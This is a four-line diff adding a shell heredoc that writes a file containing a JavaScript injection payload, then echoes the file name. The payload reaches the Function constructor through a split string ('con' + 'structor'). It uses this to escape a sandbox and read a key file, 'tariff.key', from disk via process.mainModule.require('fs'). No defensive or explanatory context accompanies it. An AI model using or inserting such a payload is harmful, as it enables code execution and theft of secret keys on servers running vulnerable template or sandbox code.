@@ -1,0 +1,4 @@
+cat > dues.txt <<'D'
+a = max["con" + "structor"]("return process.mainModule.require('fs').readFileSync('tariff.key', 'utf8')")()
+D
+echo dues.txt
